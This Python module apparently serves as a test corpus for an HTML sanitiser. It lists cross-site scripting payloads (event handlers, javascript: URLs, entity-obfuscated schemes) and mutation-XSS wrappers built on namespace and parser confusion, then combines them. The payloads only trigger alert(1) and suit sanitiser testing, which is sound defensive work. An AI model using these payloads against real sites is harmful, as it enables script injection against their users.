"""Hostile markup of our own: what runs, and what browsers and sanitisers have read in two ways, one put into the other."""

from __future__ import annotations

RUNS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<a href='javascript:alert(1)'>a</a>", "<details open ontoggle=alert(1)>a</details>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<style onload=alert(1)></style>",
    "<form><button formaction='javascript:alert(1)'>a</button></form>", "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>", "<body onload=alert(1)>", "<p onclick=alert(1) onmouseover=alert(1)>a</p>",
    "<a href='java&#9;script:alert(1)'>a</a>", "<a href='&#1;javascript:alert(1)'>a</a>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>a</text></a></svg>", "<link rel=stylesheet href=x onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
]  # fmt: skip
MUTATES = [
    '<math><mtext><table><mglyph><style><!--</style>{}', '<svg></p><style><a id="</style>{}">',
    '<form><math><mtext></form><form><mglyph><style></math>{}', '<noscript><p title="</noscript>{}">',
    '<svg><style>&lt;/style&gt;{}', '<xmp><p title="</xmp>{}">', '<textarea><p title="</textarea>{}">',
    '<template><s><template><s>{}</s></template></s></template>', '<select><style></select>{}</style>',
    '<svg><title><style><!--</style>{}', '<math><annotation-xml encoding="text/html"><style><!--</style>{}',
    '<table><tr><td><a><table>{}', '<!--><p>{}-->', '<![CDATA[{}]]>', '<svg><![CDATA[><{}]]>', '<?x {}?>',
    '<math><mi><table><mi>{}', '<p title="`" class="`>{}">a</p>', "<div>" * 600 + "{}", '<a title="<{}">a</a>',
]  # fmt: skip


def own() -> list[str]:
    """Each that runs, and each that mutates with some of them in it."""
    return [*RUNS, *(around.replace("{}", inner) for around in MUTATES for inner in RUNS[:5])]
